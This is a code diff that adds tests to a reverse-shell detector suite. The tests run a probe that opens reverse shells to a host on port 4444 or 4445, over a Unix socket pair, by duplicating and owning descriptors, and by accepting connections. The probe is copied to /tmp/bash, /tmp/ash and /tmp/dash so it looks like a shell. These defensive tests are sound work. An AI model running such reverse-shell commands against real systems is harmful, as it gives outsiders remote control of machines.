@@ -55,10 +55,23 @@ describe("detectors of the process section", () => {
     await detected("reverse_shell", "through a pipe from process");
   });
 
+  onKernel(
+    "and one on a pair of Unix sockets, of which another program with a connection has the other end",
+    async () => {
+      await web.exec(PROBE, "shell", "pair", HOST, "4444", "/bin/sh");
+      await detected("reverse_shell", "through a Unix socket from process");
+    },
+  );
+
   onKernel("a program that turns its own input into a connection is one if it is a shell", async () => {
     await web.exec(PROBE, "shell", "dup", HOST, "4444");
     await sh(`cp ${PROBE} /tmp/bash; /tmp/bash shell dup ${HOST} 4444`);
     await detected("reverse_shell", "`/tmp/bash`");
+    // Or where the connection takes the descriptor of its input by itself, made or accepted.
+    await sh(`cp ${PROBE} /tmp/ash; /tmp/ash shell own ${HOST} 4444`);
+    await detected("reverse_shell", "`/tmp/ash`");
+    await sh(`cp ${PROBE} /tmp/dash; /tmp/dash shell accept ${HOST} 4445`);
+    await detected("reverse_shell", "`/tmp/dash`");
     expect(rig.audits.some((a) => a.decision?.detector === "reverse_shell" && a.message.includes("netprobe"))).toBe(
       false,
     );
